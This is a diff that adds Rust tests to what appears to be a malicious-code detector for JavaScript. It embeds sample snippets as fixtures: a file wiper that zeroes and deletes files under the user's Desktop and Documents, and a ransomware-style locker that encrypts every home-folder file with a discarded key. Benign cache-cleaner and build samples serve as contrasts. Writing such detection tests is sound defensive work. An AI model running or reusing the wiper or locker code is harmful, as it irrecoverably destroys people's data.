@@ -1042,3 +1042,78 @@ module.exports = function run() { setTimeout(() => cp.exec('date'), 10); };
     );
     assert!(p.iter().any(|x| x.0 == K::ProcessSpawn), "{p:?}");
 }
+
+#[test]
+fn walking_the_users_folders_and_destroying_each_file_is_destruction() {
+    // A queue instead of recursion, files overwritten with garbage then removed.
+    let wiper = r#"
+const fs = require('fs'), path = require('path'), os = require('os');
+function scrub() {
+  const todo = ['Desktop', 'Documents'].map((d) => path.join(os.homedir(), d));
+  while (todo.length) {
+    const dir = todo.pop();
+    for (const name of fs.readdirSync(dir)) {
+      const p = path.join(dir, name);
+      if (fs.statSync(p).isDirectory()) todo.push(p);
+      else { fs.writeFileSync(p, Buffer.alloc(64)); fs.unlinkSync(p); }
+    }
+  }
+}
+scrub();
+"#;
+    let p = placed(wiper);
+    assert!(p.contains(&(K::Destruction, false)), "{p:?}");
+    // Recursion from the home folder itself, files encrypted beside themselves.
+    let locker = r#"
+const fs = require('fs'), os = require('os'), crypto = require('crypto');
+const walk = (d) => fs.readdirSync(d, { withFileTypes: true }).forEach((e) => {
+  const p = d + '/' + e.name;
+  if (e.isDirectory()) return walk(p);
+  const c = crypto.createCipheriv('aes-256-ctr', crypto.randomBytes(32), crypto.randomBytes(16));
+  fs.writeFileSync(p + '.enc', c.update(fs.readFileSync(p)));
+  fs.rmSync(p);
+});
+walk(os.homedir());
+"#;
+    assert!(
+        kinds(locker).contains(&K::Destruction),
+        "{:?}",
+        facts(locker)
+    );
+}
+
+#[test]
+fn walking_a_cache_or_a_project_and_deleting_is_not_destruction() {
+    // A cache cleaner under a dot-folder of home, and a build that rewrites its sources.
+    let cleaner = r#"
+const fs = require('fs'), path = require('path'), os = require('os');
+const cache = path.join(os.homedir(), '.cache', 'imgtool');
+for (const f of fs.readdirSync(cache)) {
+  const p = path.join(cache, f);
+  if (Date.now() - fs.statSync(p).mtimeMs > 864e5) fs.unlinkSync(p);
+}
+"#;
+    assert!(
+        !kinds(cleaner).contains(&K::Destruction),
+        "{:?}",
+        facts(cleaner)
+    );
+    let build = r#"
+const fs = require('fs'), path = require('path');
+function walk(dir) {
+  for (const f of fs.readdirSync(dir)) {
+    const p = path.join(dir, f);
+    if (fs.statSync(p).isDirectory()) walk(p);
+    else fs.writeFileSync(p.replace(/\.ts$/, '.js'), strip(fs.readFileSync(p, 'utf8')));
+  }
+}
+walk(path.join(__dirname, 'src'));
+// Saved in the user's Documents folder when asked to.
+exports.exportTo = (name) => fs.writeFileSync(path.join(process.env.HOME, 'Documents', name), '');
+"#;
+    assert!(
+        !kinds(build).contains(&K::Destruction),
+        "{:?}",
+        facts(build)
+    );
+}
